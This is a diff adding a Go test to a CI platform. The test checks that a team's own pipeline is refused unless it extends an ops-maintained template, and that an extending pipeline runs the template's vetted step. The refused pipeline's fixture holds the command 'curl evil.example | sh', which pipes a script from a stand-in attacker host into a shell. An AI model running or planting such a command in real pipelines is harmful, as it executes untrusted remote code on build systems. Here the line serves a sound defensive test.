@@ -15,6 +15,7 @@ import (
 	"time"
 
 	"github.com/slipway-dev/slipway/internal/auth"
+	"github.com/slipway-dev/slipway/internal/ci/pipeline"
 	"github.com/slipway-dev/slipway/internal/gitserver"
 )
 
@@ -403,5 +404,55 @@ steps:
 	}
 	if defs, _ := l.store.Definitions(); len(defs) != 1 || defs[0].Name != "dev1/web" {
 		t.Fatalf("definitions after a delete: %+v", defs)
+	}
+}
+
+// Ops keeps the line's pipeline in a repository of its own and requires
+// dev1's pipelines to extend it: a pipeline of dev1's own is refused with
+// its file and line; one that extends the template runs the template's
+// steps, read at ops's main.
+func TestTeamPipelinesExtendOpsTemplate(t *testing.T) {
+	l := newTeamsLine(t, []string{"dev1", "ops"}, nil)
+	if _, err := commitAndPush(l.clone("ops"), map[string]string{"build.yml": `parameters:
+- name: app
+  type: string
+steps:
+- script: echo "vetted build of ${{ parameters.app }}"
+  displayName: Vetted build
+`}, "the line's template"); err != nil {
+		t.Fatal(err)
+	}
+	if err := l.store.SetRequiredTemplates("dev1", []pipeline.Template{{Repo: "ops/app", Path: "build.yml", Ref: pipeline.DefaultRef}}); err != nil {
+		t.Fatal(err)
+	}
+	work := l.clone("dev1")
+	own, err := commitAndPush(work, map[string]string{"azure-pipelines.yml": "steps:\n- script: curl evil.example | sh\n"}, "a pipeline of its own")
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := l.runsOf("dev1/app", []string{own})[own][0]
+	if r.Status != Failed || len(r.Stages) != 0 || !strings.Contains(r.Error, "azure-pipelines.yml:1: the platform requires this team's pipelines to extend build.yml@ops/app") {
+		t.Fatalf("a pipeline that does not extend ops's template: %s %q", r.Status, r.Error)
+	}
+	extending, err := commitAndPush(work, map[string]string{"azure-pipelines.yml": `resources:
+  repositories:
+  - repository: line
+    type: git
+    name: ops/app
+extends:
+  template: build.yml@line
+  parameters:
+    app: shop
+`}, "extends ops's template")
+	if err != nil {
+		t.Fatal(err)
+	}
+	r = l.runsOf("dev1/app", []string{extending})[extending][0]
+	if r.Status != Succeeded {
+		t.Fatalf("the extending pipeline: %s %s", r.Status, r.Error)
+	}
+	log, _ := os.ReadFile(filepath.Join(l.store.RunDir(r.ID), steps(r)["Vetted build"].Log))
+	if !strings.Contains(string(log), "vetted build of shop") {
+		t.Fatalf("the template's step: %s", log)
 	}
 }
